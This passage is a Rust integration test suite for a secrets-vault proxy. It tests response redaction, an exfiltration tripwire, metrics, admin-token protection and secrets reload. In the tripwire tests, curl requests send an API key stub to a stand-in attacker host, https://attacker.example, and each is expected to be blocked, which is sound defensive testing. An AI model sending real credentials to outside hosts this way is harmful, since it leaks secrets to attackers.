//! Issue 3, operator-facing behaviour, black box with real clients: response redaction, the stub
//! tripwire, metrics content after traffic, `/interceptions` behind `admin_token_file`, and reload of
//! `secrets_file` (file change, SIGHUP, `POST /reload`, a bad file rejected).

use crate::support;

use std::process::Stdio;
use std::sync::atomic::Ordering;
use std::time::Duration;

use support::ops::{eventually, metric, write_secrets_json, OwnSidecar, Scripted};
use support::*;
use tokio::io::AsyncBufReadExt as _;

fn intercept_all(cfg: &mut SidecarConfig) {
    cfg.intercept = Some("all".into());
}

async fn metrics_text(admin: std::net::SocketAddr) -> String {
    let r = within(Duration::from_secs(10), "GET /metrics", raw_get(admin, "/metrics", &[]))
        .await
        .expect("GET /metrics");
    assert_eq!(r.status, 200, "{}", r.head);
    r.body_text()
}

// ---------------------------------------------------------------- redaction

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_value_reflected_in_header_and_body_reaches_client_as_stub() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    for proto in ["--http1.1", "--http2"] {
        let out = sidecar
            .curl()
            .arg(proto)
            .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
            .arg("https://api.anthropic.com/reflect")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}");
        // The upstream really saw (and reflected) the real value...
        assert!(
            up.state.saw(ANTHROPIC_REAL),
            "{proto}: upstream never got the real value"
        );
        // ...and the client sees only the stub, in the header and in the identity body.
        let reflect = out.header("x-reflect").unwrap_or_default().to_string();
        assert_eq!(
            reflect,
            format!("key={ANTHROPIC_STUB}; scope=all"),
            "{proto}: header redacted"
        );
        assert!(
            !out.header_dump.contains(ANTHROPIC_REAL),
            "{proto}: {}",
            out.header_dump
        );
        let body = out.json();
        assert_eq!(body["seen"], ANTHROPIC_STUB, "{proto}: body redacted: {body}");
        assert!(!out.body_text().contains(ANTHROPIC_REAL));
        if let Some(cl) = out.header("content-length") {
            assert_eq!(cl, out.body.len().to_string(), "{proto}: Content-Length fixed");
        }
    }
    let m = metrics_text(sidecar.admin).await;
    assert!(
        metric(&m, "vault_redactions_total", &[("secret", "ANTHROPIC_API_KEY")]).unwrap_or(0.0) >= 2.0,
        "redactions counted: {m}"
    );
    sidecar.assert_logs_clean();
}

/// Reads `curl -N` output line by line; the first event (whose real value the upstream split across two
/// chunks) must arrive redacted *before* the upstream sends the second event.
async fn sse_split_through(sidecar: &Sidecar, up: &Scripted, proto: &str) {
    let mut child = tokio::process::Command::new("curl")
        .args(["-sS", "-N", "--no-buffer", "--max-time", "60", "--noproxy", "", proto])
        .arg("--proxy")
        .arg(sidecar.proxy_url())
        .arg("--cacert")
        .arg(&sidecar.ca_path)
        .arg("https://api.anthropic.com/sse-split")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("spawn curl");
    let mut lines = tokio::io::BufReader::new(child.stdout.take().expect("stdout")).lines();
    let first = within(
        Duration::from_secs(20),
        "first SSE event before the second is sent (no hold-back past the event)",
        async {
            loop {
                let line = lines.next_line().await.expect("read").expect("stream ended early");
                if line.starts_with("data: ") {
                    return line;
                }
            }
        },
    )
    .await;
    assert!(
        !first.contains(ANTHROPIC_REAL),
        "{proto}: real value reached the client: {first}"
    );
    assert_eq!(
        first,
        format!("data: {{\"n\":1,\"key\":\"{ANTHROPIC_STUB}\"}}"),
        "{proto}: split real value redacted to the stub"
    );
    up.state.release_second_event.notify_one();
    let second = within(Duration::from_secs(20), "second SSE event", async {
        loop {
            let line = lines.next_line().await.expect("read").expect("stream ended early");
            if line.starts_with("data: ") {
                return line;
            }
        }
    })
    .await;
    assert_eq!(second, "data: {\"n\":2}");
    let status = within(Duration::from_secs(20), "curl exits", child.wait())
        .await
        .expect("wait");
    assert!(status.success(), "{proto}: curl {status}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sse_with_real_value_split_across_chunks_is_redacted_without_delay() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    sse_split_through(&sidecar, &up, "--http1.1").await;
    sse_split_through(&sidecar, &up, "--http2").await;
    sidecar.assert_logs_clean();
}

/// W02: a reflected real value comes back compressed (gzip, deflate, br, zstd; a stored gzip
/// that holds it verbatim, too): the client gets the decoded body with the stub in its place,
/// and nothing it receives decodes to the value. A coding the vault cannot decode is a 502.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_reflections_reach_the_client_decoded_and_redacted() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    let want = support::ops::reflected_text(ANTHROPIC_STUB);
    let stored = String::from_utf8_lossy(&{
        use std::io::Read as _;
        let mut s = Vec::new();
        flate2::read::GzDecoder::new(&up.gzip_bytes()[..])
            .read_to_end(&mut s)
            .expect("gunzip");
        s
    })
    .replace(ANTHROPIC_REAL, ANTHROPIC_STUB);
    let routes = [
        ("/encoded-real?enc=gzip", want.clone()),
        ("/encoded-real?enc=deflate", want.clone()),
        ("/encoded-real?enc=br", want.clone()),
        ("/encoded-real?enc=zstd", want.clone()),
        ("/gzip-real", stored),
    ];
    for proto in ["--http1.1", "--http2"] {
        for (route, want) in &routes {
            // No --compressed: curl hands over the bytes as they arrived.
            let out = sidecar
                .curl()
                .arg(proto)
                .args(["-H", "accept-encoding: gzip, deflate, br, zstd"])
                .arg(format!("https://api.anthropic.com{route}"))
                .run()
                .await
                .ok();
            assert_eq!(out.status, 200, "{proto} {route}");
            assert_eq!(
                out.header("content-encoding"),
                None,
                "{proto} {route}: identity toward the client"
            );
            let body = String::from_utf8_lossy(&out.body);
            assert_eq!(&body, want, "{proto} {route}");
            assert!(!body.contains(ANTHROPIC_REAL));
        }
        let out = sidecar
            .curl()
            .arg(proto)
            .arg("https://api.anthropic.com/encoded-real?enc=compress")
            .run()
            .await
            .ok();
        assert_eq!(
            out.status, 502,
            "{proto}: an encoding the vault cannot decode is not relayed"
        );
        assert_eq!(out.header("x-vault-error"), Some("undecodable-encoding"));
        assert!(!String::from_utf8_lossy(&out.body).contains(ANTHROPIC_REAL));
    }
    // The upstream was offered only what the vault decodes.
    let offered: Vec<String> = up
        .requests()
        .iter()
        .filter(|(p, _)| p.starts_with("/encoded-real"))
        .filter_map(|(_, h)| h.iter().find(|(k, _)| k == "accept-encoding").map(|(_, v)| v.clone()))
        .collect();
    assert!(!offered.is_empty());
    assert!(offered.iter().all(|v| v == "gzip, deflate, br, zstd"), "{offered:?}");
}

/// W05: the value reflected base64-encoded (whole, URL-safe, inside a longer token) and
/// percent-encoded in a header: the client never gets a form that decodes to it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn encoded_forms_of_a_reflected_value_are_redacted() {
    use base64::Engine as _;
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    for proto in ["--http1.1", "--http2"] {
        let out = sidecar
            .curl()
            .arg(proto)
            .arg("https://api.anthropic.com/forms-real")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}");
        let v: serde_json::Value = serde_json::from_slice(&out.body).expect("JSON body");
        // Padding is kept where the value's own encoding had it (this value's does not).
        let lenient_in = |alphabet: &base64::alphabet::Alphabet| {
            base64::engine::GeneralPurpose::new(
                alphabet,
                base64::engine::GeneralPurposeConfig::new()
                    .with_decode_allow_trailing_bits(true)
                    .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent),
            )
        };
        let lenient = lenient_in(&base64::alphabet::STANDARD);
        let b64 = lenient.decode(v["b64"].as_str().expect("b64")).expect("base64");
        assert_eq!(String::from_utf8_lossy(&b64), ANTHROPIC_STUB, "{proto}: {v}");
        let b64url = lenient_in(&base64::alphabet::URL_SAFE)
            .decode(v["b64url"].as_str().expect("b64url"))
            .expect("base64url");
        assert_eq!(String::from_utf8_lossy(&b64url), ANTHROPIC_STUB, "{proto}: {v}");
        // The inner token decodes (leniently) to no trace of the value.
        let inner = v["b64_inner"].as_str().expect("b64_inner");
        let decoded = lenient.decode(inner).unwrap_or_default();
        assert!(
            !decoded
                .windows(ANTHROPIC_REAL.len())
                .any(|w| w == ANTHROPIC_REAL.as_bytes()),
            "{proto}: {inner}"
        );
        assert!(!out
            .body
            .windows(ANTHROPIC_REAL.len())
            .any(|w| w == ANTHROPIC_REAL.as_bytes()));
        let location = out.header("location").expect("location");
        assert!(
            location.contains(&support::ops::percent(ANTHROPIC_STUB)),
            "{proto}: {location}"
        );
        assert!(
            !location.contains(&support::ops::percent(ANTHROPIC_REAL)),
            "{proto}: {location}"
        );
    }
}

// ---------------------------------------------------------------- tripwire

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tripwire_blocks_stub_to_unbound_host_with_audit_and_metric() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let mut cfg = up.sidecar_config();
    intercept_all(&mut cfg);
    let sidecar = Sidecar::start(cfg).await;
    let before = metrics_text(sidecar.admin).await;
    let blocked_before = metric(&before, "vault_blocked_total", &[("reason", "stub-exfiltration")]).unwrap_or(0.0);

    // In a header, in Basic credentials and in the query: each is refused.
    let basic = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(format!("user:{ANTHROPIC_STUB}"))
    };
    let attempts: Vec<Vec<String>> = vec![
        vec!["-H".into(), format!("x-api-key: {ANTHROPIC_STUB}")],
        vec!["-H".into(), format!("Authorization: Basic {basic}")],
        vec![
            "--http1.1".into(),
            "-H".into(),
            format!("x-note: Bearer {ANTHROPIC_STUB}"),
        ],
    ];
    for (i, extra) in attempts.iter().enumerate() {
        let out = sidecar
            .curl()
            .args(extra.iter().cloned())
            .arg(format!("https://attacker.example/exfil-{i}"))
            .run()
            .await
            .ok();
        assert_eq!(out.status, 403, "attempt {i}: {}", out.body_text());
        assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"), "attempt {i}");
        let body = out.json();
        assert!(
            body.to_string().contains("ANTHROPIC_API_KEY"),
            "attempt {i}: the JSON names the secret: {body}"
        );
        assert!(!out.body_text().contains(ANTHROPIC_STUB), "attempt {i}: {body}");
        assert!(!out.body_text().contains(ANTHROPIC_REAL), "attempt {i}: {body}");
    }
    let out = sidecar
        .curl()
        .arg(format!("https://attacker.example/q?k={ANTHROPIC_STUB}"))
        .run()
        .await
        .ok();
    assert_eq!(out.status, 403, "stub in the query: {}", out.body_text());

    // None of it reached the upstream.
    assert!(
        up.state
            .paths()
            .iter()
            .all(|p| !p.starts_with("/exfil") && !p.starts_with("/q")),
        "a blocked request reached attacker.example: {:?}",
        up.state.paths()
    );
    assert!(!up.state.saw(ANTHROPIC_STUB));
    assert!(!up.state.saw(ANTHROPIC_REAL));

    // Audit events (JSON log lines and /interceptions) with the blocked reason and secret name.
    let events = sidecar.admin_get("/interceptions").await;
    assert_eq!(events.status, 200);
    let v: serde_json::Value = serde_json::from_slice(&events.body).expect("interceptions JSON");
    let text = v.to_string();
    let blocked: Vec<&serde_json::Value> = v
        .as_array()
        .expect("array of events")
        .iter()
        .filter(|e| e.to_string().contains("stub-exfiltration"))
        .collect();
    assert!(blocked.len() >= 4, "one audit event per blocked request: {text}");
    for e in &blocked {
        let s = e.to_string();
        assert!(s.contains("attacker.example"), "{s}");
        assert!(s.contains("ANTHROPIC_API_KEY"), "event names the secret: {s}");
        assert!(s.contains("403"), "{s}");
    }
    assert!(
        !text.contains(ANTHROPIC_STUB) && !text.contains(ANTHROPIC_REAL),
        "{text}"
    );
    let stdout = sidecar.stdout();
    assert!(
        stdout
            .lines()
            .any(|l| l.contains("stub-exfiltration") && l.contains("ANTHROPIC_API_KEY")),
        "audit log line: {stdout}"
    );
    assert!(!stdout.contains(ANTHROPIC_STUB), "stub in logs");

    let after = metrics_text(sidecar.admin).await;
    let blocked_after = metric(&after, "vault_blocked_total", &[("reason", "stub-exfiltration")]).unwrap_or(0.0);
    assert_eq!(blocked_after - blocked_before, 4.0, "blocked metric: {after}");
    sidecar.assert_logs_clean();
}

// ---------------------------------------------------------------- metrics

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_after_traffic() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = Sidecar::start(up.sidecar_config()).await;
    let m0 = metrics_text(sidecar.admin).await;
    let mints0 = metric(&m0, "vault_cert_mints_total", &[]).unwrap_or(0.0);

    // Five requests over ONE curl process (keep-alive: one tunnel, one upstream connection)...
    let mut args: Vec<String> = vec!["--http1.1".into()];
    for i in 0..5 {
        if i > 0 {
            args.push("--next".into());
            args.extend([
                "--proxy".to_string(),
                sidecar.proxy_url(),
                "--cacert".to_string(),
                sidecar.ca_path.to_string_lossy().to_string(),
                "--http1.1".to_string(),
            ]);
        }
        args.extend([
            "-H".to_string(),
            format!("x-api-key: {ANTHROPIC_STUB}"),
            "-o".to_string(),
            "/dev/null".to_string(),
            format!("https://api.anthropic.com/ok-{i}"),
        ]);
    }
    let out = sidecar.curl().args(args).run().await;
    assert_eq!(out.exit, 0, "{}", out.stderr);
    // ...then five separate curl runs (five CONNECTs to the same host: leaf cache hits, pooled upstream).
    for i in 0..5 {
        sidecar
            .curl()
            .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
            .arg(format!("https://api.anthropic.com/sep-{i}"))
            .run()
            .await
            .ok();
    }
    // A GitHub token too, and one 404-free tunnel-less 4xx: a tripwire block is not counted as an injection.
    sidecar
        .curl()
        .args(["-H", &format!("authorization: token {GITHUB_STUB}")])
        .arg("https://api.github.com/gh")
        .run()
        .await
        .ok();
    let requests_made = 11.0;
    let upstream_requests = up.state.paths().len() as f64;
    assert_eq!(upstream_requests, requests_made, "{:?}", up.state.paths());

    let m = metrics_text(sidecar.admin).await;
    let inj = |secret: &str| {
        metric(
            &m,
            "vault_injections_total",
            &[("secret", secret), ("location", "header")],
        )
    };
    assert_eq!(
        inj("ANTHROPIC_API_KEY"),
        Some(10.0),
        "injections by secret+location:\n{m}"
    );
    assert_eq!(inj("GITHUB_TOKEN"), Some(1.0), "injections by secret+location:\n{m}");
    assert_eq!(
        metric(&m, "vault_requests_total", &[("mode", "intercepted"), ("class", "2xx")]),
        Some(requests_made),
        "requests by mode and class:\n{m}"
    );
    // Two hosts → two leaves minted; every other CONNECT was a cache hit.
    let mints = metric(&m, "vault_cert_mints_total", &[]).expect("cert mints metric") - mints0;
    let hits = metric(&m, "vault_cert_cache_hits_total", &[]).expect("cache hits metric");
    assert_eq!(mints, 2.0, "one mint per host:\n{m}");
    assert!(hits >= 5.0, "the later CONNECTs hit the leaf cache ({hits}):\n{m}");
    // Upstream connections are pooled: fewer connects than requests, and they agree with what the
    // upstream accepted.
    let connects = metric(&m, "vault_upstream_connects_total", &[]).expect("upstream connects metric");
    assert!(connects >= 1.0, "{m}");
    assert!(
        connects < requests_made,
        "keep-alive reuse: {connects} upstream connects for {requests_made} requests:\n{m}"
    );
    assert_eq!(
        connects,
        up.state.accepts.load(Ordering::SeqCst) as f64,
        "the metric matches the connections the upstream accepted"
    );
    // The added-latency histogram observed each request.
    let count = metric(&m, "vault_added_latency_seconds_count", &[]).expect("latency histogram count");
    assert!(
        count >= requests_made,
        "added latency observed per request ({count}):\n{m}"
    );
    assert!(m.contains("vault_added_latency_seconds_bucket{le="), "{m}");
    assert!(
        !m.contains(ANTHROPIC_REAL) && !m.contains(ANTHROPIC_STUB),
        "values in metrics"
    );
}

// ---------------------------------------------------------------- /interceptions and the admin token

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn interceptions_need_the_admin_token_and_hold_names_only() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let tokdir = tempfile::tempdir().expect("tempdir");
    let token = "adm-7c1e9a3f5b2d4e6f8a0c";
    let token_path = tokdir.path().join("admin.token");
    std::fs::write(&token_path, format!("{token}\n")).expect("write token");
    let mut cfg = up.sidecar_config();
    intercept_all(&mut cfg);
    let root = format!("admin_token_file = {:?}", token_path.to_string_lossy());
    let sidecar = OwnSidecar::start(&cfg, &root).await;

    sidecar
        .curl()
        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
        .arg("https://api.anthropic.com/reflect?secretquery=QVAL-not-logged")
        .run()
        .await
        .ok();
    let out = sidecar
        .curl()
        .args(["-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
        .arg("https://attacker.example/steal")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 403);
    // A stub in the path and in a query name, as written and percent-encoded: the audit event
    // and the log keep the secret's name in its place.
    sidecar
        .curl()
        .arg(format!(
            "https://api.anthropic.com/reflect/{ANTHROPIC_STUB}/x?{ANTHROPIC_STUB}=1"
        ))
        .run()
        .await
        .ok();
    sidecar
        .curl()
        .arg(format!(
            "https://api.anthropic.com/reflect/encoded/{}",
            every_byte_encoded(ANTHROPIC_STUB)
        ))
        .run()
        .await
        .ok();

    let get = |hdrs: Vec<(String, String)>| {
        let admin = sidecar.admin;
        async move {
            let h: Vec<(&str, &str)> = hdrs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            within(
                Duration::from_secs(10),
                "GET /interceptions",
                raw_get(admin, "/interceptions", &h),
            )
            .await
            .expect("GET /interceptions")
        }
    };
    let none = get(vec![]).await;
    assert_eq!(none.status, 401, "no token: {}", none.body_text());
    let wrong = get(vec![("Authorization".into(), "Bearer adm-wrong-token".into())]).await;
    assert_eq!(wrong.status, 401, "wrong token: {}", wrong.body_text());
    let prefix = get(vec![("Authorization".into(), format!("Bearer {}", &token[..10]))]).await;
    assert_eq!(prefix.status, 401, "a prefix of the token: {}", prefix.body_text());
    let basic = get(vec![("Authorization".into(), format!("Basic {token}"))]).await;
    assert_eq!(basic.status, 401, "not a bearer token: {}", basic.body_text());
    // /reload is guarded the same way.
    let reload = within(
        Duration::from_secs(10),
        "POST /reload",
        raw_request(sidecar.admin, "POST", "/reload", &[], b""),
    )
    .await
    .expect("POST /reload");
    assert_eq!(reload.status, 401, "/reload without token");
    // Health and metrics stay open.
    assert_eq!(get_status(sidecar.admin, "/healthz").await, 200);
    assert_eq!(get_status(sidecar.admin, "/metrics").await, 200);

    let ok = get(vec![("Authorization".into(), format!("Bearer {token}"))]).await;
    assert_eq!(ok.status, 200, "{}", ok.body_text());
    let text = ok.body_text();
    let v: serde_json::Value = serde_json::from_str(&text).expect("JSON");
    let events = v.as_array().expect("an array of events");
    assert!(events.len() >= 2, "{text}");
    // Grep the raw JSON: names only, never a value or a stub, never query values.
    assert!(text.contains("ANTHROPIC_API_KEY"), "{text}");
    for forbidden in [
        ANTHROPIC_REAL,
        ANTHROPIC_STUB,
        GITHUB_REAL,
        GITHUB_STUB,
        "QVAL-not-logged",
    ] {
        assert!(!text.contains(forbidden), "{forbidden:?} in /interceptions: {text}");
    }
    let injected = events
        .iter()
        .find(|e| e.to_string().contains("/reflect"))
        .unwrap_or_else(|| panic!("event for /reflect: {text}"));
    let s = injected.to_string();
    for field in ["api.anthropic.com", "GET", "200", "header"] {
        assert!(s.contains(field), "audit event lacks {field:?}: {s}");
    }
    let blocked = events
        .iter()
        .find(|e| e.to_string().contains("stub-exfiltration"))
        .unwrap_or_else(|| panic!("blocked event: {text}"));
    assert!(blocked.to_string().contains("attacker.example"), "{blocked}");
    assert!(
        text.contains("/reflect/<ANTHROPIC_API_KEY>/x?<ANTHROPIC_API_KEY>="),
        "a stub in the path or a query name becomes its secret's name: {text}"
    );
    assert!(
        text.contains("/reflect/encoded/<ANTHROPIC_API_KEY>"),
        "a percent-encoded stub too: {text}"
    );
    assert!(
        !text.contains(&every_byte_encoded(ANTHROPIC_STUB)),
        "the encoded stub in /interceptions: {text}"
    );
    let stdout = sidecar.stdout();
    let encoded_stub = every_byte_encoded(ANTHROPIC_STUB);
    for forbidden in [ANTHROPIC_REAL, ANTHROPIC_STUB, &encoded_stub, "QVAL-not-logged", token] {
        assert!(!stdout.contains(forbidden), "{forbidden:?} in the logs");
    }
    assert!(
        stdout.contains("<ANTHROPIC_API_KEY>"),
        "the audit lines name the secret in the path"
    );
}

/// `text` with every byte percent-encoded (`%73%6B…`), unreserved ones too.
fn every_byte_encoded(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

async fn get_status(admin: std::net::SocketAddr, path: &str) -> u16 {
    within(Duration::from_secs(10), "admin GET", raw_get(admin, path, &[]))
        .await
        .expect("admin GET")
        .status
}

// ---------------------------------------------------------------- reload

const ROT_STUB: &str = "lapstub-rotating-5e7a9c1b3d";
const ROT_V1: &str = "REAL-rotating-v1-aaaaaaaaaaaa";
const ROT_V2: &str = "REAL-rotating-v2-bbbbbbbbbbbb";
const ROT_V3: &str = "REAL-rotating-v3-cccccccccccc";
const ROT_V4: &str = "REAL-rotating-v4-dddddddddddd";

fn rot(value: &str) -> SecretSpec {
    SecretSpec::new(
        "ROTATING_TOKEN",
        ROT_STUB,
        value,
        &["api.github.com"],
        &["header:x-rot"],
    )
}

/// Sends the rotating stub once (tagged) and returns the value the upstream received for it.
async fn rotating_value_seen(h: &Harness, tag: &str) -> Option<String> {
    let out = h
        .sidecar
        .curl()
        .args(["-H", &format!("x-rot: {ROT_STUB}"), "-H", &format!("x-tag: {tag}")])
        .arg("https://api.github.com/echo")
        .run()
        .await
        .ok();
    assert_eq!(out.status, 200, "{}", out.body_text());
    h.upstream
        .requests()
        .into_iter()
        .find(|r| r.header("x-tag") == Some(tag))
        .and_then(|r| r.header("x-rot").map(str::to_string))
}

/// Polls until the upstream receives `want` for the rotating stub.
async fn until_upstream_sees(h: &Harness, want: &str, what: &str) {
    let mut n = 0u32;
    eventually(Duration::from_secs(20), what, || {
        n += 1;
        let tag = format!("{want}-{n}");
        async move { (rotating_value_seen(h, &tag).await.as_deref() == Some(want)).then_some(()) }
    })
    .await;
}

async fn metric_now(h: &Harness, name: &str) -> f64 {
    metric(&metrics_text(h.sidecar.admin).await, name, &[]).unwrap_or(0.0)
}

/// Rewrites the file with `spec` but restores its previous mtime (same length), so the 1 s file watcher
/// cannot see the change: only an explicit SIGHUP / POST /reload picks it up.
fn rewrite_unnoticed(path: &std::path::Path, spec: &SecretSpec) {
    let before = std::fs::metadata(path).expect("stat");
    let mtime = before.modified().expect("mtime");
    write_secrets_json(path, std::slice::from_ref(spec));
    let after = std::fs::metadata(path).expect("stat");
    assert_eq!(before.len(), after.len(), "test premise: same length");
    std::fs::File::options()
        .write(true)
        .open(path)
        .expect("open")
        .set_modified(mtime)
        .expect("set mtime");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_file_rotation_on_change_sighup_and_post() {
    let sdir = tempfile::tempdir().expect("tempdir");
    let sf = sdir.path().join("secrets.json");
    write_secrets_json(&sf, &[rot(ROT_V1)]);
    let sf2 = sf.clone();
    let h = Harness::start(Alpn::Both, move |c| c.secrets_file = Some(sf2)).await;
    assert_eq!(rotating_value_seen(&h, "v1").await.as_deref(), Some(ROT_V1));
    let reloads0 = metric_now(&h, "vault_reloads_total").await;

    // 1. File change alone (no signal, no request): picked up by the watcher.
    write_secrets_json(&sf, &[rot(ROT_V2)]);
    until_upstream_sees(&h, ROT_V2, "file change reloads the secret").await;
    let reloads1 = metric_now(&h, "vault_reloads_total").await;
    assert!(reloads1 > reloads0, "reload counted ({reloads0} -> {reloads1})");

    // 2. SIGHUP, with the change hidden from the watcher.
    rewrite_unnoticed(&sf, &rot(ROT_V3));
    let pid = h.sidecar.pid().to_string();
    run_prog("kill", &["-HUP", &pid], &[], None).await.ok("kill -HUP");
    until_upstream_sees(&h, ROT_V3, "SIGHUP reloads the secret").await;

    // 3. POST /reload, change hidden from the watcher too.
    rewrite_unnoticed(&sf, &rot(ROT_V4));
    let r = h.sidecar.admin_request("POST", "/reload", b"").await;
    assert_eq!(r.status, 200, "{}{}", r.head, r.body_text());
    // Synchronous: the very next request uses the new value.
    assert_eq!(rotating_value_seen(&h, "v4-now").await.as_deref(), Some(ROT_V4));
    assert!(!r.body_text().contains(ROT_V4), "no value in the reload answer");

    let stdout = h.sidecar.stdout();
    for v in [ROT_V1, ROT_V2, ROT_V3, ROT_V4, ROT_STUB] {
        assert!(!stdout.contains(v), "{v} in logs");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_secrets_file_is_rejected_and_old_value_kept() {
    let sdir = tempfile::tempdir().expect("tempdir");
    let sf = sdir.path().join("secrets.json");
    write_secrets_json(&sf, &[rot(ROT_V1)]);
    let sf2 = sf.clone();
    let h = Harness::start(Alpn::Both, move |c| c.secrets_file = Some(sf2)).await;
    assert_eq!(rotating_value_seen(&h, "v1").await.as_deref(), Some(ROT_V1));
    let failures0 = metric_now(&h, "vault_reload_failures_total").await;

    // A secret with no hosts and an invalid name: invalid by SPEC §2.1. Hidden from the watcher so the
    // POST is the one reload that counts.
    let bad = serde_json::json!({"secrets": [{
        "name": "9-not-a-name",
        "stub": ROT_STUB,
        "value": ROT_V2,
        "hosts": [],
        "locations": ["header"],
    }]})
    .to_string();
    let mtime = std::fs::metadata(&sf).expect("stat").modified().expect("mtime");
    std::fs::write(&sf, &bad).expect("write bad");
    std::fs::File::options()
        .write(true)
        .open(&sf)
        .expect("open")
        .set_modified(mtime)
        .expect("set mtime");
    let r = h.sidecar.admin_request("POST", "/reload", b"").await;
    assert_eq!(r.status, 422, "{}{}", r.head, r.body_text());
    let body: serde_json::Value = serde_json::from_slice(&r.body).expect("422 JSON");
    let problems = body["problems"].as_array().expect("problems array").clone();
    assert!(!problems.is_empty(), "{body}");
    assert!(
        !r.body_text().contains(ROT_V2) && !r.body_text().contains(ROT_STUB),
        "{body}"
    );
    assert_eq!(
        metric_now(&h, "vault_reload_failures_total").await - failures0,
        1.0,
        "reload_failures +1"
    );
    assert_eq!(
        rotating_value_seen(&h, "after-bad").await.as_deref(),
        Some(ROT_V1),
        "the old value stays in force"
    );

    // Invalid JSON via the watcher: counted and logged, old value still used.
    std::fs::write(&sf, b"{\"secrets\": [ this is not json").expect("write garbage");
    eventually(Duration::from_secs(20), "watcher counts the bad file", || {
        let h = &h;
        async move { (metric_now(h, "vault_reload_failures_total").await - failures0 >= 2.0).then_some(()) }
    })
    .await;
    assert_eq!(rotating_value_seen(&h, "after-garbage").await.as_deref(), Some(ROT_V1));
    assert!(
        h.sidecar
            .stdout()
            .lines()
            .any(|l| l.contains("rejected") && l.contains("secrets_file")),
        "the rejected reload is logged naming the file key: {}",
        h.sidecar.stdout()
    );

    // A good file again recovers.
    write_secrets_json(&sf, &[rot(ROT_V3)]);
    until_upstream_sees(&h, ROT_V3, "good file after bad ones").await;
    for v in [ROT_V1, ROT_V2, ROT_V3, ROT_STUB] {
        assert!(!h.sidecar.stdout().contains(v), "{v} in logs");
    }
}

// ---------------------------------------------------------------- secrets without a file

/// `PUT /secrets/{name}` adds and rotates, `DELETE` revokes, `PUT /secrets` replaces the set:
/// the real values only ever travel in the authenticated admin request, never a file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admin_api_adds_rotates_and_revokes_secrets() {
    let h = Harness::default_setup().await;
    let put = |name: &str, body: serde_json::Value| {
        let path = format!("/secrets/{name}");
        let body = body.to_string();
        let sc = &h.sidecar;
        async move { sc.admin_request("PUT", &path, body.as_bytes()).await }
    };
    // Not without the token.
    let r = within(
        Duration::from_secs(10),
        "PUT /secrets without a token",
        raw_request(h.sidecar.admin, "PUT", "/secrets/ROTATING_TOKEN", &[], b"{}"),
    )
    .await
    .expect("PUT");
    assert_eq!(r.status, 401, "{}", r.body_text());

    // Add: the stub is swapped toward its host from the next request on.
    let r = put(
        "ROTATING_TOKEN",
        serde_json::json!({"stub": ROT_STUB, "value": ROT_V1, "hosts": ["api.github.com"], "locations": ["header:x-rot"]}),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    assert_eq!(r.body_text(), r#"{"secrets":1}"#);
    assert_eq!(rotating_value_seen(&h, "add").await.as_deref(), Some(ROT_V1));
    // Rotate: no stub given, the stub stays.
    let r = put(
        "ROTATING_TOKEN",
        serde_json::json!({"value": ROT_V2, "hosts": ["api.github.com"], "locations": ["header:x-rot"]}),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    assert_eq!(rotating_value_seen(&h, "rotate").await.as_deref(), Some(ROT_V2));
    // A bad change is refused whole, naming the problem, and the set in force stays.
    let r = put("ROTATING_TOKEN", serde_json::json!({"value": ROT_V3, "hosts": []})).await;
    assert_eq!(r.status, 422, "{}", r.body_text());
    assert!(r.body_text().contains("secret[0].hosts"), "{}", r.body_text());
    let r = put("NEW_ONE", serde_json::json!({"value": ROT_V3, "hosts": ["a.example"]})).await;
    assert_eq!(r.status, 422, "a new secret needs a stub: {}", r.body_text());
    let r = put(
        "ROTATING_TOKEN",
        serde_json::json!({"value": ROT_V3, "hots": ["a.example"]}),
    )
    .await;
    assert_eq!(r.status, 422, "unknown field: {}", r.body_text());
    assert_eq!(rotating_value_seen(&h, "still").await.as_deref(), Some(ROT_V2));
    // Revoke: the stub is no longer a key anywhere.
    let r = h.sidecar.admin_request("DELETE", "/secrets/ROTATING_TOKEN", b"").await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    assert_eq!(rotating_value_seen(&h, "revoked").await.as_deref(), Some(ROT_STUB));
    let r = h.sidecar.admin_request("DELETE", "/secrets/ROTATING_TOKEN", b"").await;
    assert_eq!(r.status, 404, "{}", r.body_text());
    // Replace the whole managed set.
    let body = serde_json::json!({"secrets": [{"name": "ROTATING_TOKEN", "stub": ROT_STUB, "value": ROT_V4, "hosts": ["api.github.com"], "locations": ["header:x-rot"]}]});
    let r = h
